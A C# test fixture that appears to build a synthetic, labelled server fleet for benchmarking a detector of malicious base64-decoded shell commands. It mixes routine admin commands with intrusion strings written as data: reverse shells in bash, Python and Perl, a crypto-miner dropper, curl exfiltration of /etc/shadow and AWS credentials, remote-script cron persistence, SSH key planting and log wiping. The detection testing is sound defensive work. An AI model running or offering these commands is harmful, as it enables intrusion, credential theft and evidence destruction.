using System;
using System.Collections.Generic;
using System.Globalization;
using B64Hunt.Model;

namespace B64Hunt.Tests.Scoring
{
    /// <summary>
    /// A labelled two-week fleet for the ranking benchmark, generated from a seed (same seed, same fleet). Benign base64
    /// use of many kinds (config pushes, Kubernetes secrets, JWT decoding, healthchecks, package updates, backups, cron
    /// jobs, monitoring agents, per-host and per-developer one-offs) and intrusion scenarios modelled on public
    /// tradecraft (Atomic Red Team T1059.004/T1105/T1053.003/T1098.004/T1070, honeypot miner droppers such as the
    /// kinsing/TeamTNT write-ups, pentest reverse-shell cheat sheets), some repeated across hosts; alert noise on
    /// benign hosts; attacks with and without alerts. Command lines are data: nothing here is ever run.
    /// </summary>
    internal sealed class RankingBenchmarkFleet
    {
        public static readonly DateTime Start = new DateTime(2026, 3, 2, 0, 0, 0, DateTimeKind.Utc);
        public static readonly TimeSpan Window = TimeSpan.FromDays(14);

        private readonly Random _r;
        public List<CommandEvent> Events { get; } = new List<CommandEvent>();
        public List<RelatedAlert> Alerts { get; } = new List<RelatedAlert>();
        /// <summary>Decoded commands of the intrusions (the label).</summary>
        public HashSet<string> Attacks { get; } = new HashSet<string>(StringComparer.Ordinal);
        public List<string> Hosts { get; } = new List<string>();
        public int Scenarios { get; private set; }

        public RankingBenchmarkFleet(int seed)
        {
            _r = new Random(seed);
            int n = 220 + _r.Next(101);
            string[] roles = { "web", "app", "db", "k8s-node", "cache", "build", "mq", "batch" };
            for (int i = 0; i < n; i++) Hosts.Add(roles[i % roles.Length] + "-" + (i / roles.Length + 1).ToString("00", CultureInfo.InvariantCulture));
            Benign();
            Intrusions();
            AlertNoise();
        }

        private DateTime Any() => Start.AddMinutes(_r.Next((int)Window.TotalMinutes));
        private string Host() => Hosts[_r.Next(Hosts.Count)];
        private List<string> Role(string role) => Hosts.FindAll(h => h.StartsWith(role + "-", StringComparison.Ordinal));
        private string PublicIp() => new[] { "45", "91", "185", "194", "5", "103", "139", "176" }[_r.Next(8)] + "." + _r.Next(1, 255) + "." + _r.Next(1, 255) + "." + _r.Next(1, 255);
        private string Pick(params string[] options) => options[_r.Next(options.Length)];

        private void Run(string command, string host, DateTime at) =>
            Events.Add(new CommandEvent { DecodedCommand = command, Computer = host, TimeGenerated = at, CommandLine = "echo <b64> | base64 -d | sh" });

        private void Benign()
        {
            string org = Pick("contoso", "fabrikam", "northwind", "tailspin");
            // Package updates: most hosts, a few times in the window.
            string update = Pick("apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get -y -qq upgrade",
                "yum -y -q makecache && yum -y -q update", "apt-get update && apt-get install -y --only-upgrade openssl libssl3");
            foreach (var h in Hosts) if (_r.NextDouble() < 0.9) for (int k = 0; k < 1 + _r.Next(3); k++) Run(update, h, Any());
            // Monitoring agent rollout: a wave on a large share of the fleet.
            string agent = "curl -fsSL https://packages." + org + ".local/monitoring/install-agent.sh | bash -s -- --tenant " + org + " --env prod";
            var wave = Start.AddDays(_r.Next(2, 10));
            foreach (var h in Hosts) if (_r.NextDouble() < 0.6) Run(agent, h, wave.AddMinutes(_r.Next(240)));
            // Config pushes per role.
            foreach (var role in new[] { "web", "app", "mq" })
            {
                string push = "echo '{\"log_level\":\"" + Pick("info", "warn") + "\",\"upstream\":\"http://10.20." + _r.Next(255) + ".10:8080\"}' > /etc/" + org + "/" + role + ".json && systemctl restart " + role + "-svc";
                var at = Any();
                foreach (var h in Role(role)) Run(push, h, at.AddMinutes(_r.Next(30)));
            }
            // Kubernetes secrets on the nodes.
            string secret = "kubectl create secret generic db-creds --from-literal=password=$(cat /run/secrets/db) -n prod --dry-run=client -o yaml | kubectl apply -f -";
            foreach (var h in Role("k8s-node")) for (int k = 0; k < 2; k++) Run(secret, h, Any());
            // Healthchecks to loopback every few hours on a group of hosts.
            int every = Pick("2", "4", "6") == "2" ? 2 : 4;
            string health = "curl -fsS -m 5 http://127.0.0.1:" + Pick("8080", "9000", "3000") + "/healthz >/dev/null || systemctl restart " + org + "-api.service";
            var group = Role("app").GetRange(0, Math.Min(10, Role("app").Count));
            foreach (var h in group)
            {
                var t = Start.AddMinutes(_r.Next(60));
                for (; t < Start + Window; t = t.AddHours(every)) Run(health, h, t.AddSeconds(_r.Next(30)));
            }
            // Backups on database hosts, daily at a fixed hour.
            string backup = "tar czf /backup/db-$(date +%F).tgz /var/lib/postgresql && find /backup -mtime +7 -delete";
            foreach (var h in Role("db")) for (int d = 0; d < 14; d++) Run(backup, h, Start.AddDays(d).AddHours(2).AddMinutes(_r.Next(5)));
            // Cron jobs: log shipping every hour on batch hosts.
            string ship = "gzip -c /var/log/" + org + "/app.log > /var/spool/ship/app-$(date +%H).gz && rsync -a /var/spool/ship/ logs." + org + ".local::incoming/";
            foreach (var h in Role("batch")) for (var t = Start.AddMinutes(7); t < Start + Window; t = t.AddHours(1)) Run(ship, h, t);
            // A metrics agent that reads the instance metadata (benign use of a credential-access shape).
            string metadata = "curl -s -H Metadata:true 'http://169.254.169.254/metadata/instance?api-version=2021-02-01' | jq -r .compute.vmSize > /var/lib/" + org + "/vmsize";
            foreach (var h in Hosts) if (_r.NextDouble() < 0.3) Run(metadata, h, Any());
            // CI build agents: docker builds with registry logins, often.
            foreach (var h in Role("build")) for (int k = 0; k < 20; k++) Run("docker login registry." + org + ".local -u ci --password-stdin < /run/secrets/ci && docker build -t registry." + org + ".local/shop:" + _r.Next(1000, 9999) + " .", h, Any());
            // Developer and per-host one-offs: many rare, benign, distinct commands.
            int oneOffs = 100 + _r.Next(60);
            for (int i = 0; i < oneOffs; i++)
            {
                string h = Host();
                string cmd = _r.Next(12) switch
                {
                    0 => "{\"sub\":\"" + _r.Next(100000) + "\",\"name\":\"dev" + _r.Next(50) + "\",\"iat\":" + (1700000000 + _r.Next(10000000)) + ",\"roles\":[\"reader\"]}",
                    1 => "echo 'APP_ENV=prod\nNODE_NAME=" + h + "' > /etc/default/" + org + "-" + h,
                    2 => "hostnamectl set-hostname " + h + "." + org + ".local",
                    3 => "df -h /data; du -sh /var/lib/docker | sort -h | tail -n " + _r.Next(3, 20),
                    4 => "ssh deploy@" + Host() + " 'tail -n " + _r.Next(50, 500) + " /var/log/" + org + "/app.log'",
                    5 => "openssl x509 -in /etc/ssl/certs/" + h + ".pem -noout -dates -subject",
                    6 => "python3 -c 'import json,sys; print(json.load(open(\"/etc/" + org + "/app.json\"))[\"version\"])' # " + _r.Next(1000),
                    7 => "systemctl restart nginx && journalctl -u nginx --since '-" + _r.Next(5, 60) + "min' --no-pager | tail -n 20",
                    8 => "cat > /etc/logrotate.d/" + org + "-" + _r.Next(100) + " <<EOF\n/var/log/" + org + "/*.log {\n daily\n rotate 7\n compress\n}\nEOF",
                    9 => "git clone https://git." + org + ".local/ops/tools-" + _r.Next(100) + ".git /opt/tools && cd /opt/tools && make install",
                    10 => "grep -c ERROR /var/log/" + org + "/app.log > /tmp/errcount-" + _r.Next(1000),
                    _ => "kubectl -n prod rollout restart deployment/" + Pick("shop", "cart", "auth", "search") + "-" + _r.Next(100),
                };
                Run(cmd, h, Any());
            }
        }

        private void Intrusion(string command, IList<string> hosts, DateTime at, double alertChance, string alertName, string severity, bool namesIp, string? ip)
        {
            Attacks.Add(command);
            foreach (var h in hosts)
            {
                var t = at.AddMinutes(_r.Next(0, 50));
                Run(command, h, t);
                if (_r.NextDouble() < alertChance)
                {
                    Alerts.Add(new RelatedAlert
                    {
                        Computer = h, AlertName = alertName, Severity = AlertSeverities.Parse(severity), TimeGenerated = t.AddMinutes(1 + _r.Next(40)),
                        Description = namesIp && ip != null ? "Connection to " + ip + " from " + h : "Suspicious activity on " + h,
                    });
                }
            }
        }

        private List<string> Several(int min, int max)
        {
            var list = new List<string>();
            int count = _r.Next(min, max + 1);
            while (list.Count < count) { var h = Host(); if (!list.Contains(h)) list.Add(h); }
            return list;
        }

        private void Intrusions()
        {
            var scenarios = new List<Action>
            {
                () => { var ip = PublicIp(); Intrusion("curl -s http://" + ip + "/" + Pick("xmrig", "kdevtmpfsi", "kinsing") + " -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x -o stratum+tcp://" + ip + ":" + Pick("3333", "4444") + " -u 4" + new string('A', 20) + " -B", Several(3, 6), Any(), 0.6, "Crypto mining activity", "High", true, ip); },
                () => { var ip = PublicIp(); Intrusion("bash -i >& /dev/tcp/" + ip + "/" + _r.Next(1024, 65000) + " 0>&1", Several(1, 2), Any(), 0.5, "Possible reverse shell", "High", _r.Next(2) == 0, ip); },
                () => { var ip = PublicIp(); Intrusion("import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"" + ip + "\"," + _r.Next(1024, 65000) + "));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty;pty.spawn(\"/bin/bash\")", Several(1, 1), Any(), 0.4, "Suspicious Python execution", "Medium", false, ip); },
                () => { var ip = PublicIp(); Intrusion("perl -e 'use Socket;$i=\"" + ip + "\";$p=" + _r.Next(1024, 65000) + ";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'", Several(1, 1), Any(), 0.3, "Possible reverse shell", "High", false, ip); },
                () => { Intrusion("for h in $(awk '{print $1}' ~/.ssh/known_hosts | cut -d, -f1); do sshpass -p '" + Pick("Winter2024!", "P@ssw0rd", "admin123") + "' ssh -o StrictHostKeyChecking=no root@$h 'mkdir -p ~/.ssh; echo ssh-rsa AAAAB3NzaC1yc2E" + _r.Next(100000) + " x >> ~/.ssh/authorized_keys'; done", Several(2, 4), Any(), 0.5, "SSH lateral movement", "Medium", false, null); },
                () => { var ip = PublicIp(); Intrusion("cat /etc/shadow /root/.aws/credentials 2>/dev/null | curl -s -X POST --data-binary @- http://" + ip + "/u", Several(1, 2), Any(), 0.5, "Credential theft", "High", true, ip); },
                () => { var ip = PublicIp(); Intrusion("(crontab -l 2>/dev/null; echo \"*/" + Pick("5", "10", "15") + " * * * * curl -fsSL http://" + ip + "/c.sh | sh\") | crontab -", Several(2, 5), Any(), 0.4, "Suspicious cron job", "Medium", false, ip); },
                () => { var ip = PublicIp(); Intrusion("printf '[Unit]\\nDescription=kworker\\n[Service]\\nExecStart=/var/tmp/.kw\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/kworker.service && systemctl daemon-reload && systemctl enable --now kworker.service", Several(1, 3), Any(), 0.3, "New systemd service", "Low", false, ip); },
                () => { var ip = PublicIp(); Intrusion("wget -q http://" + ip + "/" + Pick("bot", "x86_64", "dl") + " -O /dev/shm/.b; chmod 755 /dev/shm/.b; /dev/shm/.b &", Several(1, 4), Any(), 0.6, "Suspicious download then run", "Medium", true, ip); },
                () => { Intrusion("unset HISTFILE; history -c; rm -rf /var/log/auth.log* /var/log/syslog*; echo > /var/log/wtmp", Several(1, 3), Any(), 0.4, "Log tampering", "High", false, null); },
                () => { Intrusion("echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5" + _r.Next(1000000) + " root@kali' >> /root/.ssh/authorized_keys; chattr +i /root/.ssh/authorized_keys", Several(1, 2), Any(), 0.3, "SSH key added", "Medium", false, null); },
            };
            // Nine scenarios per fleet, drawn without replacement.
            for (int i = 0; i < 9; i++)
            {
                int at = _r.Next(scenarios.Count);
                scenarios[at]();
                scenarios.RemoveAt(at);
                Scenarios++;
            }
        }

        private void AlertNoise()
        {
            string[] names = { "Failed SSH brute force attack", "Antimalware scan failed", "Unusual process", "Port scan detected", "Suspicious authentication", "Disk quota anomaly" };
            string[] severities = { "Low", "Medium", "Informational", "High", "Low" };
            foreach (var h in Hosts)
            {
                if (_r.NextDouble() >= 0.4) continue;
                int count = 1 + _r.Next(3);
                for (int i = 0; i < count; i++)
                {
                    Alerts.Add(new RelatedAlert { Computer = h, AlertName = names[_r.Next(names.Length)], Severity = AlertSeverities.Parse(severities[_r.Next(severities.Length)]), TimeGenerated = Any(), Description = "Noise on " + h });
                }
            }
        }
    }
}
